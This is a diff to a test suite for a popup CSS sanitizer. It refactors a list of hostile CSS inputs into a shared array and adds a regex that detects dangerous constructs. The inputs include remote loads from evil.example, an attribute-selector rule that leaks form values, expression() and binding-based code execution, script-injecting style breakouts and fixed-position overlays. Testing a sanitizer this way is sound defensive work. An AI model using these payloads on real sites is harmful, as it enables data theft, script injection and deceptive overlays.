@@ -131,41 +131,52 @@ describe('HTML in the page', () => {
   ])('%s becomes an element that works', (html, result) => expect(clean(html)).toBe(result));
 });
 
+const cssAttacks = [
+  '@import "https://evil.example/x.css";',
+  '@import url(https://evil.example/x.css);',
+  '@font-face { font-family: x; src: url(https://evil.example/x.woff) }',
+  'p { background: url(https://evil.example/x.gif) }',
+  'p { background: u\\72l(https://evil.example/x.gif) }',
+  'p { background: image-set("https://evil.example/x.gif" 1x) }',
+  'p { --x: url(https://evil.example/x.gif); background: var(--x) }',
+  'p { content: src("https://evil.example") }',
+  'input[value^="a"] { background-image: URL( "https://evil.example/a" ) }',
+  'p { position: fixed; inset: 0 }',
+  'p { position: f\\69xed }',
+  'p { --p: fixed; position: var(--p) }',
+  'p { pos\\69tion: fixed }',
+  'p { position: sticky }',
+  '@media all { p { position: fixed } }',
+  'p { & span { position: fixed } }',
+  '@keyframes x { to { position: fixed } }',
+  ':host { position: fixed; contain: none }',
+  ':ho\\73t { position: fixed }',
+  ':is(:host) { contain: none !important }',
+  'p { behavior: url(x.htc) }',
+  'p { -moz-binding: url(https://evil.example/x.xml) }',
+  'p { width: expression(alert(1)) }',
+  'p::after { content: "</style><script>alert(1)</script>" }',
+  '</style><script>alert(1)</script>',
+  'x</style> { color: red }',
+  '@media </style> { p { color: red } }',
+];
+
+/** Returns the first text in CSS that loads something, or reaches out of the popup; null without one. */
+const dangerInCss = (css: string): string | null =>
+  /url|evil\.example|import|font-face|fixed|sticky|host|<\/|behavior|binding|expression/i.exec(
+    css.replaceAll(/--p:\s*fixed/g, ''),
+  )?.[0] ?? null;
+
 describe('CSS in the page', () => {
-  test.each([
-    '@import "https://evil.example/x.css";',
-    '@import url(https://evil.example/x.css);',
-    '@font-face { font-family: x; src: url(https://evil.example/x.woff) }',
-    'p { background: url(https://evil.example/x.gif) }',
-    'p { background: u\\72l(https://evil.example/x.gif) }',
-    'p { background: image-set("https://evil.example/x.gif" 1x) }',
-    'p { --x: url(https://evil.example/x.gif); background: var(--x) }',
-    'p { content: src("https://evil.example") }',
-    'input[value^="a"] { background-image: URL( "https://evil.example/a" ) }',
-    'p { position: fixed; inset: 0 }',
-    'p { position: f\\69xed }',
-    'p { --p: fixed; position: var(--p) }',
-    'p { pos\\69tion: fixed }',
-    'p { position: sticky }',
-    '@media all { p { position: fixed } }',
-    'p { & span { position: fixed } }',
-    '@keyframes x { to { position: fixed } }',
-    ':host { position: fixed; contain: none }',
-    ':ho\\73t { position: fixed }',
-    ':is(:host) { contain: none !important }',
-    'p { behavior: url(x.htc) }',
-    'p { -moz-binding: url(https://evil.example/x.xml) }',
-    'p { width: expression(alert(1)) }',
-    'p::after { content: "</style><script>alert(1)</script>" }',
-    '</style><script>alert(1)</script>',
-    'x</style> { color: red }',
-    '@media </style> { p { color: red } }',
-  ])('%s loads nothing and stays in its place', (css) => {
-    const cleaned = cleanPopupCss(css);
-    const declared = cleaned.replaceAll(/--p:\s*fixed/g, '');
-    expect(declared).not.toMatch(
-      /url|evil\.example\/|import|font-face|fixed|sticky|host|<\/|behavior|binding|expression/i,
-    );
+  test.each(cssAttacks)('%s loads nothing and stays in its place', (css) => {
+    expect(dangerInCss(cleanPopupCss(css))).toBeNull();
+  });
+
+  test('without cleaning, all are dangerous but two that a search in the text does not find', () => {
+    expect(cssAttacks.filter((css) => dangerInCss(css) === null)).toEqual([
+      'p { position: f\\69xed }',
+      'p { --p: fixed; position: var(--p) }',
+    ]);
   });
 
   test('other styles stay', () => {
